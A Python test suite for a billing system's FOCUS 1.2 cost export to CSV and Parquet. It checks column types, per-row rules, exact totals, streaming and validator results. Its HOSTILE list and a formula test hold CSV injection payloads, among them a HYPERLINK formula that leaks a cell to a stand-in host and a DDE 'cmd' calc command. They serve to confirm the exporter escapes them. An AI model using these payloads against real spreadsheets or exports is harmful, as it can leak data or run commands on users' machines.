"""The FOCUS export: the columns' table of the specification, its rules row by row, the public validator, and
that no micro-dollar is lost in either format.
"""

import csv
import json
import re
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib import focus_validator
from passbox.errors import Misconfigured
from passbox.ledger import focus, focus_file, prices
from passbox.ledger.statements import Charge

REFERENCE = Path(__file__).parents[2] / "docs" / "reference" / "focus.md"
ROOM = focus.Room("us-east-1")
FORMATS = ("csv", "parquet")

# FOCUS 1.2, column by column: level (mandatory, conditional, recommended), type, whether it may be null, and
# the values that are allowed where there is a list
SPECIFICATION = """
AvailabilityZone                     recommended  string    null
BilledCost                           mandatory    decimal   -
BillingAccountId                     mandatory    string    -
BillingAccountName                   mandatory    string    null
BillingAccountType                   conditional  string    null
BillingCurrency                      mandatory    string    -
BillingPeriodEnd                     mandatory    datetime  -
BillingPeriodStart                   mandatory    datetime  -
CapacityReservationId                conditional  string    null
CapacityReservationStatus            conditional  string    null  Used|Unused
ChargeCategory                       mandatory    string    -     Usage|Purchase|Tax|Credit|Adjustment
ChargeClass                          mandatory    string    null  Correction
ChargeDescription                    mandatory    string    null
ChargeFrequency                      recommended  string    -     One-Time|Recurring|Usage-Based
ChargePeriodEnd                      mandatory    datetime  -
ChargePeriodStart                    mandatory    datetime  -
CommitmentDiscountCategory           conditional  string    null  Spend|Usage
CommitmentDiscountId                 conditional  string    null
CommitmentDiscountName               conditional  string    null
CommitmentDiscountQuantity           conditional  decimal   null
CommitmentDiscountStatus             conditional  string    null  Used|Unused
CommitmentDiscountType               conditional  string    null
CommitmentDiscountUnit               conditional  string    null
ConsumedQuantity                     conditional  decimal   null
ConsumedUnit                         conditional  string    null
ContractedCost                       mandatory    decimal   -
ContractedUnitPrice                  conditional  decimal   null
EffectiveCost                        mandatory    decimal   -
InvoiceId                            recommended  string    null
InvoiceIssuerName                    mandatory    string    -
ListCost                             mandatory    decimal   -
ListUnitPrice                        conditional  decimal   null
PricingCategory                      conditional  string    null  Standard|Dynamic|Committed|Other
PricingCurrency                      conditional  string    -
PricingCurrencyContractedUnitPrice   conditional  decimal   null
PricingCurrencyEffectiveCost         conditional  decimal   -
PricingCurrencyListUnitPrice         conditional  decimal   null
PricingQuantity                      mandatory    decimal   null
PricingUnit                          mandatory    string    null
ProviderName                         mandatory    string    -
PublisherName                        mandatory    string    -
RegionId                             conditional  string    null
RegionName                           conditional  string    null
ResourceId                           conditional  string    null
ResourceName                         conditional  string    null
ResourceType                         conditional  string    null
ServiceCategory                      mandatory    string    -     AI and Machine Learning|Analytics
ServiceName                          mandatory    string    -
ServiceSubcategory                   recommended  string    -     Machine Learning|Data Processing
SkuId                                conditional  string    null
SkuMeter                             conditional  string    null
SkuPriceDetails                      conditional  json      null
SkuPriceId                           conditional  string    null
SubAccountId                         conditional  string    null
SubAccountName                       conditional  string    null
SubAccountType                       conditional  string    null
Tags                                 conditional  json      null
"""
# the conditions that a room does not meet: zones, reservations, discounts for commitment, other currencies
WITHOUT = re.compile(
    r"AvailabilityZone|CapacityReservation.*|CommitmentDiscount(Quantity|Unit)|PricingCurrency.*"
)
# always null: what FOCUS 1.0 wants there to be, and what a room does not have
EMPTY = {"InvoiceId"} | {name for name in focus.COLUMNS if name.startswith("CommitmentDiscount")}

BASE = Charge(
    id="01939d00-0000-7000-8000-000000000001/queryCompute/post",
    sequence=1,
    kind="CHARGE",
    month="2026-11",
    payer="111111111111",
    payer_name="airline",
    submitter="222222222222",
    collaboration="5d1b5ee1-6d0d-4e3f-8d8e-4a3e3f0f2a11",
    collaboration_name="Delays",
    cost_type=prices.QUERY_COMPUTE,
    job="01939d00-0000-7000-8000-000000000001",
    resource_arn="arn:aws:cleanrooms:us-east-1:222222222222:membership/m/protectedquery/q",
    resource_name="",
    resource_kind="protected_query",
    quantity=120_001,
    unit="CRPU-seconds",
    price=prices.Price(2_000_000, 3_600),
    counted=0,
    amount=66_668,
    started=1_794_000_000.25,
    at=1_794_000_033.5,
)
HOSTILE = [
    '=HYPERLINK("http://example.test/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r\n=1",
    "＝1",
    'quo"ted, with ""commas"", and\nnew\r\nlines\r',
    "'already",
    "Ünïcödé 飛行機 🛫 \u202e\u2028",
    "NA",
    "null",
    "-0.07",
    "  spaced  ",
    "half \ud800 of a pair",
]


def made(number: int, **changes: Any) -> Charge:
    """A charge with an id of its own, priced as the book does unless `amount` is given."""
    charge = replace(BASE, id=f"{BASE.id}/{number}", sequence=number, **changes)
    if "amount" not in changes:
        full = charge.price.of(charge.quantity, charge.counted)
        charge = replace(charge, amount=-full if charge.kind == "REFUND" else full)
    return charge


def sample() -> Iterator[Charge]:
    """All cost types, each charged, dear and free, in a second tier and in both, cut by a cap, given back
    within its month and after.
    """
    number = 0
    for cost_type in prices.COST_TYPES:
        measure, price = prices.MEASURES[cost_type], prices.PUBLISHED[cost_type]
        common = {"cost_type": cost_type, "unit": measure.unit, "price": price}
        tiers = price._replace(tier_from=10**9, tier_micro_dollars=price.micro_dollars // 7)
        for changes in (
            {},
            {"quantity": 0},
            {"quantity": 1},
            {"quantity": 10**15 + 7},
            {"price": price._replace(micro_dollars=0)},
            {"price": price._replace(micro_dollars=1_234_567), "amount": 1},
            {"price": price._replace(micro_dollars=10**12)},
            {"price": tiers, "quantity": 10**12, "counted": 10**12 // 3},
            {"price": tiers, "quantity": 7, "counted": 10**13},
            {"kind": "REFUND"},
            {"kind": "REFUND", "price": price._replace(micro_dollars=1_234_567), "amount": -1},
            {"kind": "REFUND", "at": datetime(2026, 12, 1, tzinfo=UTC).timestamp()},
            {"month": "2026-12", "started": 1_796_083_200.0, "at": 1_796_083_200.0},
            {"at": BASE.started - 5},
        ):
            number += 1
            yield made(number, **{**common, **changes})
    for text in HOSTILE:
        number += 1
        yield made(number, payer_name=text, collaboration_name=text, resource_name=text)
    yield made(number + 1, payer="012345678901", payer_name="", resource_arn="", resource_kind="")


SAMPLE = list(sample())
ROWS = [focus.row(charge, ROOM) for charge in SAMPLE]


def table() -> dict[str, tuple[str, str, bool, set[str]]]:
    found = {}
    for line in SPECIFICATION.strip().splitlines():
        name, level, type_, null, *values = line.split(maxsplit=4)
        found[name] = (level, type_, null == "null", set("".join(values).split("|")) - {""})
    return found


def written(row: dict[str, focus.Cell]) -> dict[str, str]:
    """The row as CSV has it."""
    return {name: focus_file._written(cell) for name, cell in row.items()}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def export(path: Path, charges: list[Charge] = SAMPLE) -> Path:
    assert focus_file.export(iter(charges), path, region="us-east-1") == len(charges)
    assert list(path.parent.iterdir()) == [path]
    return path


# -- the columns -----------------------------------------------------------------------------------------


def test_the_columns_are_those_of_the_specification() -> None:
    assert len(table()) == 57
    wanted = {name: type_ for name, (_, type_, _, _) in table().items() if not WITHOUT.fullmatch(name)}
    own = {name for name in focus.COLUMNS if name.startswith("x_")}
    assert {name: type_ for name, type_ in focus.COLUMNS.items() if name not in own} == wanted
    assert [name for name in focus.COLUMNS if name not in own] == sorted(wanted)
    assert not [name for name, (level, *_) in table().items() if level == "mandatory" and name not in wanted]


@pytest.mark.parametrize("name", list(focus.COLUMNS))
def test_a_column_holds_what_the_specification_allows(name: str) -> None:
    _, type_, may_be_null, allowed = table().get(name, ("", focus.COLUMNS[name], False, set()))
    kinds = {"string": str, "json": str, "decimal": Decimal, "datetime": datetime}
    for row in ROWS:
        cell = row[name]
        if cell is None:
            assert may_be_null
            continue
        assert isinstance(cell, kinds[type_])
        assert cell != ""
        assert not allowed or cell in allowed
        if isinstance(cell, Decimal):
            assert -cell.as_tuple().exponent == focus.SCALES[name]
            assert re.fullmatch(r"-?[0-9]+\.[0-9]+", written(row)[name])
        if isinstance(cell, datetime):
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", written(row)[name])
        if type_ == "json":
            pairs = json.loads(str(cell))
            assert pairs
            assert all(isinstance(value, str) for value in pairs.values())
    assert (name in EMPTY) == all(row[name] is None for row in ROWS)


def test_every_cost_type_and_every_unit_has_names() -> None:
    assert set(focus.PRODUCTS) == set(prices.COST_TYPES)
    assert set(focus.UNITS) == {measure.unit for measure in prices.MEASURES.values()}
    pairs = {(product.subcategory, product.category) for product in focus.PRODUCTS.values()}
    assert pairs == {("Data Processing", "Analytics"), ("Machine Learning", "AI and Machine Learning")}


@pytest.mark.parametrize(
    ("unit", "per", "name"),
    [
        ("CRPU-seconds", 3_600, "CRPU-Hours"),
        ("CRPU-seconds", 1, "CRPU-Seconds"),
        ("CRPU-seconds", 60, "60 CRPU-Seconds"),
        ("records trained", 1_000, "1000 Records"),
        ("records scored", 1_000_000, "1000000 Records"),
        ("SDGU", 1, "SDGUs"),
    ],
)
def test_units_are_in_the_unit_format(unit: str, per: int, name: str) -> None:
    assert focus.pricing_unit(unit, per) == name
    assert re.fullmatch(r"([1-9][0-9]* )?([A-Z][A-Za-z]*)(-(Hours|Seconds))?", name)


# -- the rules, row by row -------------------------------------------------------------------------------


def _product(row: dict[str, Any], price: str, cost: str) -> bool:
    """Unit price × PricingQuantity is the cost, rounded up to the micro-dollar as the book does."""
    # copy_abs keeps every digit, abs only the 28 of the context
    exact = row[price].copy_abs().as_integer_ratio()
    quantity = row["PricingQuantity"].copy_abs().as_integer_ratio()
    micro = -(-exact[0] * quantity[0] * 10**6 // (exact[1] * quantity[1]))
    return bool(micro == abs(row[cost]) * 10**6 and row[cost] * row["PricingQuantity"] >= 0)


RULES: dict[str, Callable[[dict[str, Any]], bool]] = {
    "BilledCost is EffectiveCost: nothing is amortised": lambda r: r["BilledCost"] == r["EffectiveCost"],
    "no negotiated prices: contracted is list": lambda r: (
        (r["ContractedCost"], r["ContractedUnitPrice"]) == (r["ListCost"], r["ListUnitPrice"])
    ),
    "ListUnitPrice × PricingQuantity is ListCost": lambda r: _product(r, "ListUnitPrice", "ListCost"),
    "a cap only ever takes away": lambda r: abs(r["BilledCost"]) <= abs(r["ListCost"]),
    "prices are not negative": lambda r: min(r["ListUnitPrice"], r["ContractedUnitPrice"]) >= 0,
    "usage that corrects nothing has quantities, units, prices and SKUs": lambda r: (
        None
        not in [
            r[name]
            for name in (
                "ConsumedQuantity",
                "ConsumedUnit",
                "PricingQuantity",
                "PricingUnit",
                "PricingCategory",
                "ListUnitPrice",
                "ContractedUnitPrice",
                "SkuId",
                "SkuPriceId",
                "SkuMeter",
            )
        ]
    ),
    "usage comes with a frequency of usage": lambda r: (
        (r["ChargeCategory"], r["ChargeFrequency"]) == ("Usage", "Usage-Based")
    ),
    "a unit where there is a quantity": lambda r: (
        (r["ConsumedQuantity"] is None) == (r["ConsumedUnit"] is None)
        and (r["PricingQuantity"] is None) == (r["PricingUnit"] is None)
    ),
    "a billing period is a month of UTC": lambda r: (
        r["BillingPeriodStart"].day == r["BillingPeriodEnd"].day == 1
        and 28 <= (r["BillingPeriodEnd"] - r["BillingPeriodStart"]).days <= 31
        and r["BillingPeriodStart"].utcoffset().total_seconds() == 0
    ),
    "a charge period is not empty": lambda r: r["ChargePeriodStart"] < r["ChargePeriodEnd"],
    "whole seconds": lambda r: (
        not r["ChargePeriodStart"].microsecond and not r["ChargePeriodEnd"].microsecond
    ),
    "name and type only where there is an id": lambda r: (
        r["ResourceId"] is not None or (r["ResourceName"], r["ResourceType"]) == (None, None)
    ),
    "an id has its type": lambda r: (r["ResourceId"] is None) == (r["ResourceType"] is None),
    "a sub account has a name and a type": lambda r: None not in (r["SubAccountName"], r["SubAccountType"]),
    "a region has a name": lambda r: (r["RegionId"] is None) == (r["RegionName"] is None),
    "no details of a price without a price": lambda r: (
        r["SkuPriceDetails"] is None or r["SkuPriceId"] is not None
    ),
    "no discount columns without a discount": lambda r: all(r[name] is None for name in EMPTY),
    "keys of tags have the room's prefix": lambda r: all(
        key.startswith("passbox/") for key in json.loads(r["Tags"])
    ),
    "keys of details do not look like FOCUS's own": lambda r: (
        not any(key.startswith("F_") for key in json.loads(r["SkuPriceDetails"]))
    ),
    "an ISO 4217 currency": lambda r: r["BillingCurrency"] == "USD",
}


@pytest.mark.parametrize("rule", list(RULES))
def test_a_rule_holds_for_every_row(rule: str) -> None:
    for row in ROWS:
        assert RULES[rule](row), (rule, row)


def test_a_sku_is_the_same_for_everybody_and_a_sku_price_has_one_price() -> None:
    for key, values in (
        ("SkuId", ("ServiceName", "SkuMeter")),
        ("SkuPriceId", ("SkuId", "ListUnitPrice", "PricingUnit", "SkuPriceDetails")),
    ):
        seen: dict[Any, Any] = {}
        for row in ROWS:
            told = tuple(row[name] for name in values)
            assert seen.setdefault(row[key], told) == told


@pytest.mark.parametrize(
    ("kind", "at", "expected"),
    [
        ("CHARGE", "2026-11-30T23:59:59", None),
        ("CHARGE", "2026-12-01T00:00:00", None),  # late, but no correction of anything
        ("REFUND", "2026-11-30T23:59:59", None),  # a correction within its own period
        ("REFUND", "2026-12-01T00:00:00", "Correction"),
        ("REFUND", "2027-02-01T00:00:00", "Correction"),
    ],
)
def test_a_refund_after_its_month_is_a_correction(kind: str, at: str, expected: str | None) -> None:
    row = focus.row(made(1, kind=kind, at=datetime.fromisoformat(at + "Z").timestamp()), ROOM)
    assert row["ChargeClass"] == expected
    assert row["ChargeCategory"] == "Usage"
    assert row["BillingPeriodStart"] == datetime(2026, 11, 1, tzinfo=UTC)
    assert row["BillingPeriodEnd"] == datetime(2026, 12, 1, tzinfo=UTC)


def test_a_refund_takes_back_all_that_its_charge_says() -> None:
    for changes in ({}, {"amount": 5}):
        charge = made(1, **changes)
        there = focus.row(charge, ROOM)
        back = focus.row(replace(charge, kind="REFUND", amount=-charge.amount), ROOM)
        for name in focus.COLUMNS:
            cell = there[name]
            if isinstance(cell, Decimal):
                assert back[name] == (cell if name.endswith("UnitPrice") else -cell)
            elif name != "ChargeDescription":
                assert back[name] == cell


def test_who_and_where_is_in_the_tags() -> None:
    row = focus.row(BASE, ROOM)
    assert json.loads(str(row["Tags"])) == {
        "passbox/collaboration": BASE.collaboration,
        "passbox/costType": BASE.cost_type,
        "passbox/job": BASE.job,
        "passbox/payer": BASE.payer,
        "passbox/resource": BASE.resource_arn,
        "passbox/submitter": BASE.submitter,
    }


@given(
    quantity=st.integers(0, 10**18),
    price=st.integers(0, 10**12),
    per=st.sampled_from([1, 7, 60, 1_000, 3_600, 1_000_000]),
    refund=st.booleans(),
)
def test_the_product_is_the_books_figure(quantity: int, price: int, per: int, refund: bool) -> None:
    kind = "REFUND" if refund else "CHARGE"
    charge = made(1, quantity=quantity, price=prices.Price(price, per), kind=kind)
    row = focus.row(charge, ROOM)
    assert row["BilledCost"] == row["ListCost"] == Decimal(f"{charge.amount}E-6")
    assert _product(row, "ListUnitPrice", "ListCost")
    assert row["ConsumedQuantity"] == Decimal(f"{-quantity if refund else quantity}E-3")


def test_a_charge_in_both_tiers_has_the_price_they_come_to() -> None:
    inference = {
        "cost_type": prices.MODEL_INFERENCE,
        "unit": "records scored",
        "price": prices.PUBLISHED[prices.MODEL_INFERENCE],
    }
    million = 10**6 * prices.MILLI

    def row(before: int, scored: int) -> dict[str, focus.Cell]:
        return focus.row(made(1, **inference, quantity=scored * million, counted=before * million), ROOM)

    below, both, above = row(0, 1_000), row(900, 300), row(1_000, 300)
    assert [cells["ListCost"] for cells in (below, both, above)] == [10_000, 1_040, 60]
    unit = [cells["ListUnitPrice"] for cells in (below, both, above)]
    assert [unit[0], unit[2]] == [10, Decimal("0.2")]
    assert abs(unit[1] * 300 - 1_040) < Decimal("1e-15")
    details = [json.loads(str(cells["SkuPriceDetails"])) for cells in (below, both, above)]
    shares = {"FirstTierQuantity": "100000000", "SecondTierQuantity": "200000000"}
    assert details[1] == {**details[0], **shares}
    assert details[2] == details[0]
    assert len({cells["SkuPriceId"] for cells in (below, both, above)}) == 3
    assert str(both["ChargeDescription"]).endswith("at 10 and 0.2 USD per 1000000 Records")


# -- the files -------------------------------------------------------------------------------------------


def test_the_totals_are_the_statements_to_the_micro_dollar(tmp_path: Path) -> None:
    expected = sum(charge.amount for charge in SAMPLE)
    assert expected % 10
    for column in ("BilledCost", "EffectiveCost"):
        cells = [row[column] for row in read_csv(export(tmp_path / "charges.csv"))]
        assert sum(int(Decimal(cell).scaleb(6)) for cell in cells) == expected
    (tmp_path / "charges.csv").unlink()
    found = pq.read_table(export(tmp_path / "charges.parquet"))
    for column in ("BilledCost", "EffectiveCost"):
        assert sum(int(cell.scaleb(6)) for cell in found[column].to_pylist()) == expected


def test_parquet_keeps_every_cell_and_type(tmp_path: Path) -> None:
    found = pq.read_table(export(tmp_path / "charges.parquet"))
    assert found.to_pylist() == ROWS
    assert found.schema.metadata == {b"focus_version": b"1.2"}
    types = {name: str(found.schema.field(name).type) for name in focus.COLUMNS}
    assert types["BilledCost"] == "decimal128(38, 6)"
    assert types["PricingQuantity"] == "decimal128(38, 20)"
    assert types["ChargePeriodStart"] == "timestamp[ms, tz=UTC]"
    assert types["Tags"] == types["SkuId"] == "string"


def test_csv_keeps_every_cell_but_for_the_apostrophe(tmp_path: Path) -> None:
    path = export(tmp_path / "charges.csv")
    assert read_csv(path) == [written(row) for row in ROWS]
    for row, cells in zip(ROWS, read_csv(path), strict=True):
        for name, cell in row.items():
            if isinstance(cell, str):
                assert cells[name] in (cell, f"'{cell}")
            elif isinstance(cell, Decimal):
                assert Decimal(cells[name]) == cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("'x", "'x"),
        (" =1", " =1"),
    ],
)
def test_a_formula_becomes_text(tmp_path: Path, text: str, cell: str) -> None:
    charge = made(1, payer_name=text, collaboration_name=text, resource_name=text)
    (row,) = read_csv(export(tmp_path / "charges.csv", [charge]))
    assert {row["BillingAccountName"], row["SubAccountName"], row["ResourceName"]} == {cell}


def test_negative_numbers_are_no_formulas(tmp_path: Path) -> None:
    (row,) = read_csv(export(tmp_path / "charges.csv", [made(1, kind="REFUND")]))
    assert row["BilledCost"] == "-0.066668"


def test_an_empty_month_has_its_columns(tmp_path: Path) -> None:
    assert export(tmp_path / "charges.csv", []).read_text() == ",".join(focus.COLUMNS) + "\n"
    (tmp_path / "charges.csv").unlink()
    found = pq.read_table(export(tmp_path / "charges.parquet", []))
    assert (found.num_rows, found.column_names) == (0, list(focus.COLUMNS))


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_failure_leaves_what_was_there(tmp_path: Path, suffix: str) -> None:
    def broken() -> Iterator[Charge]:
        yield from SAMPLE
        raise RuntimeError("the database went away")

    path = tmp_path / f"charges.{suffix}"
    path.write_text("yesterday's")
    with pytest.raises(RuntimeError, match="went away"):
        focus_file.export(broken(), path, region="us-east-1")
    assert path.read_text() == "yesterday's"
    assert list(tmp_path.iterdir()) == [path]


def test_a_full_disk_is_told(tmp_path: Path) -> None:
    path = tmp_path / "charges.csv"

    def rows() -> Iterator[Charge]:
        raise OSError(28, "No space left on device")
        yield

    with pytest.raises(Misconfigured, match="cannot be written: No space left on device"):
        focus_file.export(rows(), path, region="us-east-1")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("charges.xlsx", "end it in .csv or .parquet"),
        ("charges", "end it in .csv or .parquet"),
        ("nowhere/charges.csv", "there is no directory .*nowhere"),
        ("here.csv", "is a directory"),
    ],
)
def test_what_cannot_be_written_is_refused_before_anything_is_read(
    tmp_path: Path, name: str, message: str
) -> None:
    (tmp_path / "here.csv").mkdir()
    charges = iter(SAMPLE)
    with pytest.raises(Misconfigured, match=message):
        focus_file.export(charges, tmp_path / name, region="us-east-1")
    assert next(charges) is SAMPLE[0]


@pytest.mark.parametrize("suffix", ["csv", "parquet", "CSV"])
def test_rows_are_streamed(tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A batch at a time is held: 3,000 rows, which take 10 MB, pass through less than 3."""
    monkeypatch.setattr(focus_file, "BATCH", 100)
    path = tmp_path / f"charges.{suffix}"
    export(path)  # what is imported only now does not count
    tracemalloc.start()
    try:
        assert focus_file.export(map(made, range(3_000)), path, region="us-east-1") == 3_000
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 3_000_000
    if suffix == "parquet":
        assert pq.read_metadata(path).num_row_groups == 30
    else:
        assert len(read_csv(path)) == 3_000


# -- the public validator --------------------------------------------------------------------------------

CHECKS = 133  # of its rule set "1.0"
NAMES = {
    "InvoiceIssuer_Required",
    "Provider_Required",
    "Publisher_Required",
    "ResourceID_Required",
    "SkuPriceId_Nullable",
}
EXACT = {f"{name}_IsDecimal" for name, type_ in focus.COLUMNS.items() if type_ == "decimal"}
# what it says to the files as they stand, for the reasons given in lib/focus_validator.py
STOCK = {"csv": NAMES | {"BillingAccountId_IsString"}, "parquet": NAMES | EXACT}
# with no row it guesses no types, and one rule of its own, a query in SQL, fails on any file without rows
STOCK_EMPTY = NAMES | EXACT

needs_validator = pytest.mark.skipif(
    focus_validator.unavailable() is not None, reason=focus_validator.unavailable() or ""
)


def failed(verdict: dict[str, str]) -> set[str]:
    assert len(verdict) == CHECKS
    assert set(verdict.values()) <= {"passed", "failed"}
    return {check for check, status in verdict.items() if status == "failed"}


@needs_validator
@pytest.mark.parametrize("suffix", FORMATS)
def test_the_public_validator_finds_nothing(tmp_path: Path, suffix: str) -> None:
    found = focus_validator.validate(export(tmp_path / f"charges.{suffix}"), focus.COLUMNS)
    assert failed(found["fitted"]) == set()
    assert failed(found["stock"]) == STOCK[suffix]


@needs_validator
@pytest.mark.parametrize("suffix", FORMATS)
def test_the_public_validator_accepts_an_empty_month(tmp_path: Path, suffix: str) -> None:
    found = focus_validator.validate(export(tmp_path / f"charges.{suffix}", []), focus.COLUMNS)
    assert failed(found["fitted"]) == {"SkuPriceId_Nullable"}
    assert failed(found["stock"]) == STOCK_EMPTY


@needs_validator
def test_the_public_validator_would_find_something(tmp_path: Path) -> None:
    """The readings that are set right hide nothing: a file that is wrong fails, check by check."""
    rows = read_csv(export(tmp_path / "charges.csv"))
    rows[0] |= {
        "BilledCost": "",
        "BillingCurrency": "XXY",
        "ChargeClass": "Refund",
        "ChargeFrequency": "Hourly",
        "ChargePeriodStart": "2026-11-01",
        "PricingCategory": "On-Demand",
        "ProviderName": "",
        "ServiceCategory": "Clean Rooms",
        "SkuPriceId": "",
        "Tags": "passbox",
    }
    with (tmp_path / "wrong.csv").open("w", newline="") as file:
        writer = csv.DictWriter(
            file, [name for name in focus.COLUMNS if name != "SkuId"], extrasaction="ignore"
        )
        writer.writeheader()
        writer.writerows(rows)
    columns = {name: type_ for name, type_ in focus.COLUMNS.items() if name != "SkuId"}
    found = focus_validator.validate(tmp_path / "wrong.csv", columns)
    assert failed(found["fitted"]) == {
        "BilledCost_NotNull",
        "BillingCurrency_IsCurrencyCode",
        "ChargeClass_Enum",
        "ChargeFrequency_Enum",
        "ChargePeriodStart_IsDateTime",
        "PricingCategory_Enum_1.0",
        "Provider_NotNull",
        "ServiceCategory_Enum",
        "SkuId_Required",
        "SkuPriceId_Nullable",
        "Tags_IsJSONObject",
    }


# -- the page --------------------------------------------------------------------------------------------


def test_the_page_has_every_column_and_its_examples_are_true() -> None:
    lines = re.findall(r"^\| (\w+) \| (\w+) \| .+ \| (.+) \|$", REFERENCE.read_text(), re.MULTILINE)
    row = written(focus.row(BASE, ROOM))
    shown = {name: f"`{cell}`" if cell else "null" for name, cell in row.items()}
    assert {name: (type_, example) for name, type_, example in lines if name != "Column"} == {
        name: (focus.COLUMNS[name], shown[name]) for name in focus.COLUMNS
    }
